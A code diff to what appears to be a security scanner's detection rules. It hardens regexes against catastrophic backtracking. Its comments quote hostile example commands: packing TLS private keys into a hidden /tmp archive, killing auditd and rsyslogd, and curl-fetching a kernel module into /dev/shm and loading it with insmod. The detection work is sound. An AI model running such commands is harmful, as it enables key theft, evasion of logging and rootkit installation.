@@ -2082,7 +2082,8 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
         re.compile(r"\.Run\s*\(?\s*[^\n,]+,\s*0\s*(?:,|\)|$)", _I | re.M),
         re.compile(
-            r"\bmount\s+(?:-o\s+bind|--bind)\s+\S+\s+/proc/\$?\{?\w+\}?|\btouch\s+-r\s+/(?:bin|sbin|usr|etc)/\S+|\.(?:LastWriteTime|CreationTime)\s*=\s*\(Get-Item|\bSetFileTime\s*\(",
+            # (a file's times set, `touch -r`, `SetFileTime(`, is `Capability.TIMESTOMP`)
+            r"\bmount\s+(?:-o\s+bind|--bind)\s+\S+\s+/proc/\$?\{?\w+\}?",
             _I,
         ),
         re.compile(
@@ -3160,10 +3161,14 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
         # a server's TLS private keys packed into a dot-file in a scratch folder (`tar czf
         # /tmp/.c.tgz /etc/ssl/private /etc/letsencrypt/archive`): staged out of sight to be
-        # taken; a backup is written where it is kept, under its own name
+        # taken; a backup is written where it is kept, under its own name (the line looked
+        # along only where an archiver stands, and the first staged name kept once found: a
+        # later one sees less of the line, so trying each made crafted lines cubic)
         re.compile(
-            r"(?=[^\n]*/etc/(?:ssl/private|letsencrypt|pki/tls/private))"
-            r"\b(?:tar|zip|7z|7za)\b[^\n|;&]*?\s['\"]?" + _SCRATCH_FOLDER + r"/\.[^\s'\"/]+['\"]?\s"
+            r"(?=tar|zip|7z)(?=[^\n]*/etc/(?:ssl/private|letsencrypt|pki/tls/private))"
+            r"\b(?:tar|zip|7z|7za)\b(?>[^\n|;&]*?\s['\"]?"
+            + _SCRATCH_FOLDER
+            + r"/\.[^\s'\"/]+['\"]?\s)"
             r"[^\n|;&]*?/etc/(?:ssl/private|letsencrypt(?:/(?:archive|live))?|pki/tls/private)(?![\w.-])",
             _I,
         ),
@@ -5043,8 +5048,9 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
         # the same daemons killed by the process ids a lookup finds (`kill -9 $(pgrep -f
         # 'auditd|rsyslogd')`, `` kill `pidof auditd` ``); a hang-up only asks them to reopen
+        # (the line looked along for the lookup only where `kill` stands, not at every place)
         re.compile(
-            r"(?=[^\n]*\b(?:pgrep|pidof)\b)\bkill\b(?![^\n|;&]*\s-(?:s\s+)?(?:SIG)?(?:HUP|USR[12]|1|0)\b)(?:\s+-\S+)*\s+['\"]?(?:\$\(|`)\s*(?:pgrep|pidof)\b[^\n)`]*?"
+            r"(?=kill\b)(?=[^\n]*\b(?:pgrep|pidof)\b)\bkill\b(?![^\n|;&]*\s-(?:s\s+)?(?:SIG)?(?:HUP|USR[12]|1|0)\b)(?:\s+-\S+)*\s+['\"]?(?:\$\(|`)\s*(?:pgrep|pidof)\b[^\n)`]*?"
             r"\b(?:auditd|rsyslogd|syslog-ng|systemd-journald|journald|sysmon\w*|osqueryd|wazuh-\w+|ossec\w*)\b",
             _I,
         ),
@@ -6221,9 +6227,11 @@ _SERVER_SIDE_PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
         # every site's root read out of the web servers' configuration (`grep -rhoE
-        # '^\s*(root|DocumentRoot)\s+\S+' /etc/nginx /etc/apache2`)
+        # '^\s*(root|DocumentRoot)\s+\S+' /etc/nginx /etc/apache2`; the first root after `grep` is
+        # kept: a later one sees less of the line, so trying each made crafted lines cubic)
         re.compile(
-            r"\bgrep\b[^\n]*\b(?:DocumentRoot|root)\b[^\n]*\s/etc/(?:nginx|apache2|httpd)\b", _I
+            r"\bgrep\b(?>[^\n]*?\b(?:DocumentRoot|root)\b)[^\n]*\s/etc/(?:nginx|apache2|httpd)\b",
+            _I,
         ),
     ),
     Capability.INDEX_OVERWRITE: (
@@ -6346,13 +6354,15 @@ PATTERNS = _merged(PATTERNS, _PACKAGE_PATTERNS)
 _STAGED_MODULE = r"['\"]?" + _SCRATCH_FOLDER + r"/(?:\.[^\s'\"/;&|]+/)?[^\s'\"/;&|]+" + _MODULE_FILE
 """A kernel module straight in a world-writable folder, or in a dot-folder there."""
 _STAGED_HERE = (
-    r"(?=[^\n]*\binsmod\b)\bcd\s+['\"]?"
+    r"(?<!\w)cd[^\S\n]+['\"]?"
     + _SCRATCH_FOLDER
-    + r"(?:/\.[^\s'\"/;&|]+)?/?['\"]?\s*(?:&&|;)[^\n]*?"
+    + r"(?=[^\n]*\binsmod\b)(?:/\.[^\s'\"/;&|]+)?/?['\"]?\s*(?:&&|;)[^\n]*?"
     r"\binsmod\s+(?:-[\w-]+\s+)*['\"]?(?:\./)?[^\s'\"/;&|]+" + _MODULE_FILE
 )
 """The same module loaded by its bare name after `cd` into such a folder (`cd /dev/shm && curl
--sO http://.../d.ko && insmod d.ko`)."""
+-sO http://.../d.ko && insmod d.ko`). The line is looked along for `insmod` only past `cd` and
+the folder (not at every place of it); `(?<!\\w)` rather than `\\b` keeps `insmod` the literal the
+scan's prefilter keys on, and the blanks after `cd` stay on its line as that look needs."""
 _MODULE_PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
     Capability.MODULE_ERASED: (
         # loaded from there, then the module or its folder deleted on the same line (`insmod
